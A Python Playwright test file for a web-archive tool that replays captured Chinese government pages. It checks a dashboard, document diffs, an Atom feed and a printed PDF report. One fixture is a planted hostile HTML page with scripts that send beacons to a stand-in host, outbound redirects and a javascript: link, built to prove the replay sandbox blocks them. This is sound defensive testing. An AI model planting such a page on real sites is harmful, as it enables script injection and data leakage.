"""A real browser (headless Debian chromium through Playwright) on the evidence pages of issue 14: the
Chinese dashboard and its English switch, a document's highlighted diff, a capture replayed in its sandbox
(a planted hostile page runs no script and sends no request out of the archive), the Atom feed, and the
audit report printed to PDF with its evidence links. Screenshots go to test-output/datasette/."""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from simulator.testing import launched
from tests.support import XXGK, xxgk

from . import test_browser
from .conftest import AGENCY, YEAR, Archive
from .test_browser import LISTENING, OUT, _rows, _tilde

# The browser and the served crawled archive of test_browser.py, shared (fixtures by module attribute).
server = test_browser.server
browser_page = test_browser.browser_page

ATOM = "{http://www.w3.org/2005/Atom}"
OUTSIDE = "http://evil.invalid"
HOSTILE_PAGE = f"""<!doctype html><html><head><meta charset="utf-8"><title>恶意页面</title>
<base href="{OUTSIDE}/"><meta http-equiv="refresh" content="1;url={OUTSIDE}/refresh">
<link rel="stylesheet" href="{OUTSIDE}/s.css"><link rel="prefetch" href="{OUTSIDE}/prefetch">
<script>alert("inline script ran"); fetch("{OUTSIDE}/beacon");</script>
<script src="{OUTSIDE}/x.js"></script>
<style>@import url("{OUTSIDE}/import.css"); body {{ background: url({OUTSIDE}/bg.png); }}</style>
</head><body onload="alert('onload ran')">
<h1 id="claim">被篡改的页面</h1>
<img src="{OUTSIDE}/pixel.png" onerror="alert('onerror ran')">
<img srcset="{OUTSIDE}/a.png 1x, {OUTSIDE}/b.png 2x">
<iframe src="{OUTSIDE}/frame"></iframe><object data="{OUTSIDE}/obj"></object>
<a id="js" href="javascript:alert('link ran')">点击</a>
<form action="{OUTSIDE}/post" method="post"><input name="q"></form>
<svg><script>alert("svg script ran")</script></svg>
</body></html>""".encode()


def _watch(page: Any, server_url: str) -> list[str]:
    """Every request the page makes that leaves the archive's server."""
    outside: list[str] = []
    page.on("request", lambda req: None if req.url.startswith((server_url, "data:", "about:")) else outside.append(req.url))
    return outside


# ------------------------------------------------------------------ a planted hostile capture

def plant_hostile(root: Path) -> tuple[Path, Path, str]:
    """An archive with one capture whose WARC record is HOSTILE_PAGE, written as the crawler writes records."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    from archive.schema import open_db

    warc_dir = root / "warc"
    warc_dir.mkdir(parents=True)
    name = "run-hostile-00000.warc.gz"
    url = "http://www.kaiping.gov.cn/hostile/index.html"
    with open(warc_dir / name, "wb") as fh:
        writer = WARCWriter(fh, gzip=True)
        http = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                           ("Content-Length", str(len(HOSTILE_PAGE)))], protocol="HTTP/1.1")
        record = writer.create_warc_record(url, "response", payload=io.BytesIO(HOSTILE_PAGE), http_headers=http)
        writer.write_record(record)
        length = fh.tell()
    db_path = root / "archive.sqlite"
    db = open_db(db_path)
    db["agencies"].insert({"id": AGENCY, "name": "开平市教育局"})
    db["runs"].insert({"id": "run-hostile", "agency": AGENCY, "channel": "website", "status": "ok",
                       "started_at": "2025-04-01T00:00:00Z", "ended_at": "2025-04-01T00:01:00Z"})
    capture_id = "cap-hostile-1"
    db["captures"].insert({"id": capture_id, "run_id": "run-hostile", "url": url, "method": "GET", "status": 200,
                           "outcome": "ok", "content_type": "text/html; charset=utf-8", "warc_file": name,
                           "warc_offset": 0, "warc_length": length,
                           "warc_record_id": record.rec_headers.get_header("WARC-Record-ID"),
                           "fetched_at": "2025-04-01T00:00:30Z", "payload_length": len(HOSTILE_PAGE)})
    db.conn.close()
    return db_path, warc_dir, capture_id


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    db, warc_dir, capture_id = plant_hostile(tmp_path_factory.mktemp("hostile"))
    cmd = [XXGK, "serve", "--db", str(db), "--port", "0", "--warc-dir", str(warc_dir)]
    with launched(cmd, LISTENING, "xxgk serve") as (_, m):
        yield m.group(1), capture_id


def test_replay_sandbox_runs_no_script_and_sends_nothing_out(hostile_server: tuple[str, str],
                                                              browser_page: tuple) -> None:
    from playwright.sync_api import expect

    base, capture_id = hostile_server
    page, dialogs, _errors = browser_page
    outside = _watch(page, base)
    dialogs.clear()

    page.goto(f"{base}/-/xxgk/replay/{capture_id}")
    frame_el = page.locator("iframe.xxgk-frame").first
    sandbox = frame_el.get_attribute("sandbox")
    assert sandbox is not None and "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    frame = frame_el.content_frame
    expect(frame.locator("#claim")).to_have_text("被篡改的页面")  # the page, as captured
    assert frame.locator("script").count() == 0 and frame.locator("iframe, object, base").count() == 0
    page.wait_for_timeout(2000)  # past the planted 1 s meta refresh: nothing may navigate anywhere
    page.screenshot(path=str(OUT / "replay-hostile.png"), full_page=True)

    # The replayed response itself, opened top-level: its own CSP sandboxes it too.
    resp = page.goto(f"{base}/-/xxgk/replay/{capture_id}/raw")
    assert resp is not None and resp.status == 200
    csp = resp.headers["content-security-policy"]
    assert csp.startswith("sandbox") and "default-src 'none'" in csp and "script-src" not in csp.replace(
        "script-src 'none'", "")
    expect(page.locator("#claim")).to_have_text("被篡改的页面")
    page.locator("#js").click()
    page.wait_for_timeout(2000)
    assert page.url.startswith(base)

    assert dialogs == [], dialogs
    assert outside == [], outside


# ------------------------------------------------------------------ the crawled archive's pages

def test_dashboard_in_chinese_with_english_available(server: str, browser_page: tuple) -> None:
    from playwright.sync_api import expect

    page, dialogs, errors = browser_page
    page.goto(server + "/-/xxgk/dashboard")
    expect(page.get_by_role("heading", name="年报核对仪表板")).to_be_visible()
    expect(page.locator("table.xxgk")).to_contain_text("少于年报所称")
    expect(page.locator("table.xxgk thead")).to_contain_text("存档所见")
    expect(page.locator("svg.chart")).to_have_count(2)
    page.screenshot(path=str(OUT / "dashboard-zh.png"), full_page=True)
    feed = page.request.get(server + page.locator("a.xxgk-feed").get_attribute("href"))
    assert feed.status == 200 and b"<feed" in feed.body()
    page.get_by_role("link", name="English").click()
    expect(page.get_by_role("heading", name="Reconciliation dashboard")).to_be_visible()
    expect(page.locator("table.xxgk")).to_contain_text("fewer found")
    page.goto(server + "/-/xxgk/dashboard")  # remembered (cookie)
    expect(page.get_by_role("heading", name="Reconciliation dashboard")).to_be_visible()
    page.goto(server + "/-/xxgk/dashboard?_lang=zh")
    expect(page.get_by_role("heading", name="年报核对仪表板")).to_be_visible()
    assert dialogs == [] and errors == []


def test_document_diff_and_its_replay(server: str, browser_page: tuple, crawled: Archive) -> None:
    from playwright.sync_api import expect

    page, dialogs, errors = browser_page
    outside = _watch(page, server)
    doc_id, before, after = _retitled(crawled.db)
    page.goto(f"{server}/archive/documents/{_tilde(doc_id)}")
    expect(page.get_by_role("heading", name="版本（2）")).to_be_visible()
    title_row = page.locator("table.xxgk-versions tr").filter(has=page.locator("code", has_text=re.compile("^title$")))
    row = title_row.locator("td.xxgk-diff").first
    removed = "".join(row.locator("del.xxgk-del").all_inner_texts())
    added = "".join(row.locator("ins.xxgk-ins").all_inner_texts())
    assert removed or added
    # The highlighted pieces are exactly what differs: dropping them from each side gives the common text.
    assert all(ch in before for ch in removed) and all(ch in after for ch in added)
    assert len(removed) + len(added) < len(before) + len(after)  # not two whole texts
    assert row.inner_text().replace("\n", "") != before + after
    page.screenshot(path=str(OUT / "document-diff.png"), full_page=True)
    page.get_by_role("link", name="按词对比").click()
    page.wait_for_url(re.compile(r"_diff=word"))
    expect(page.locator("table.xxgk-versions .xxgk-diff-modes a.current, .xxgk-diff-modes a.current")).to_have_text(
        "按词对比")
    expect(page.locator("table.xxgk-versions del.xxgk-del, table.xxgk-versions ins.xxgk-ins").first).to_be_visible()

    # Replay of the current capture from the evidence section: the page as it was, sandboxed.
    page.locator("a.xxgk-replay").first.click()
    page.wait_for_url(re.compile(r"/-/xxgk/replay/"))
    frame_el = page.locator("iframe[sandbox]").first
    assert "allow-scripts" not in (frame_el.get_attribute("sandbox") or "")
    expect(frame_el.content_frame.locator("body")).to_contain_text(after[:6])
    page.screenshot(path=str(OUT / "replay-document.png"), full_page=True)
    assert outside == [], outside
    assert dialogs == [] and errors == []


def test_atom_feed_of_changes(server: str, browser_page: tuple, crawled: Archive) -> None:
    page, _dialogs, _errors = browser_page
    resp = page.request.get(f"{server}/-/xxgk/feed/{AGENCY}.atom?channel=catalog")
    assert resp.status == 200 and "atom" in resp.headers["content-type"]
    feed = ET.fromstring(resp.body())
    entries = feed.findall(f"{ATOM}entry")
    kinds = {e.find(f"{ATOM}category").get("term") for e in entries}
    changed = {d for (d,) in _rows(crawled.db, "select distinct e.document_id from document_events e join documents d "
                                                "on d.id = e.document_id where e.event = 'changed' and d.channel = 'catalog'")}
    gone = {d for (d,) in _rows(crawled.db, "select distinct e.document_id from document_events e join documents d "
                                             "on d.id = e.document_id where e.event = 'disappeared' and d.channel = 'catalog'")}
    assert changed and gone and {"changed", "disappeared"} <= kinds
    links = " ".join(link.get("href") for e in entries for link in e.findall(f"{ATOM}link"))
    assert all(_tilde(d) in links for d in changed | gone)
    # Each entry opens its document page.
    first = next(link.get("href") for link in entries[0].findall(f"{ATOM}link") if link.get("rel") == "alternate")
    page.goto(first)
    assert page.locator("h1").inner_text()
    bad = page.request.get(f"{server}/-/xxgk/feed/{AGENCY}.atom?channel=fax")
    assert bad.status == 400


def test_printed_report_carries_its_evidence(server: str, browser_page: tuple, crawled: Archive,
                                             tmp_path: Path) -> None:
    """The Chinese HTML report printed (print stylesheet) and `xxgk report --format pdf`: every capture is a link
    to its replay and WARC record, with WARC file and offset, nothing collapsed."""
    import pypdfium2

    page, _dialogs, _errors = browser_page
    html_path, pdf_path = tmp_path / "report.html", tmp_path / "report.pdf"
    common = ["report", "--agency", AGENCY, "--year", str(YEAR), "--db", str(crawled.db), "--link-base", server]
    xxgk(*common, "--format", "html", "--out", str(html_path), expect=None)
    xxgk(*common, "--format", "pdf", "--out", str(pdf_path), expect=None)
    assert pdf_path.read_bytes()[:5] == b"%PDF-"

    page.goto(html_path.as_uri())
    page.emulate_media(media="print")
    assert page.locator("details:not([open])").count() == 0
    replay_links = page.locator(f"a[href^='{server}/-/xxgk/replay/']")
    warc_links = page.locator(f"a[href^='{server}/-/xxgk/warc/']")
    hrefs = lambda loc: {h.rsplit("/", 1)[-1] for h in loc.evaluate_all("els => els.map(e => e.href)")}  # noqa: E731
    shown = sorted(hrefs(replay_links))
    assert len(shown) > 20 and hrefs(warc_links) == set(shown)  # every capture: its replay and its WARC record
    cells = page.locator("div.cap")
    assert cells.count() > 20
    for i in range(0, cells.count(), max(1, cells.count() // 25)):
        cell = cells.nth(i)
        assert cell.locator("a[href*='/-/xxgk/replay/']").count() == 1 == cell.locator("a[href*='/-/xxgk/warc/']").count()
    for cap in shown[:3]:  # the links lead to the replay
        resp = page.request.get(f"{server}/-/xxgk/replay/{cap}")
        assert resp.status == 200
    warc_file, offset = _rows(crawled.db, "select warc_file, warc_offset from captures where id = ?", (shown[0],))[0]
    body = page.locator("body").inner_text()
    assert warc_file in body and str(offset) in body
    page.pdf(path=str(OUT / "report-printed.pdf"))
    page.emulate_media(media="screen")

    pdf = pypdfium2.PdfDocument(pdf_path)
    text = "".join(p.get_textpage().get_text_range() for p in pdf).replace("\r", "")
    pdf.close()
    assert "政府信息公开工作年度报告" in text and "主动公开" in text
    pdf_caps = {c for c in shown if c in text.replace("\n", "")}
    assert len(pdf_caps) >= min(10, len(shown)), "the PDF carries the capture ids of the evidence"
    assert pdf_path.read_bytes().count(b"/URI") >= replay_links.count()  # the links survive printing


def _retitled(db: Path) -> tuple[str, str, str]:
    import json

    rows = _rows(db, "select document_id, previous, changed_fields from document_versions where changed_fields like "
                     "'%title%' and previous not in ('', '{}')")
    assert rows, "the simulator edits two titles"
    doc_id = rows[0][0]
    before = json.loads(rows[0][1])["title"]
    after = _rows(db, "select title from documents where id = ?", (doc_id,))[0][0]
    return doc_id, before, after
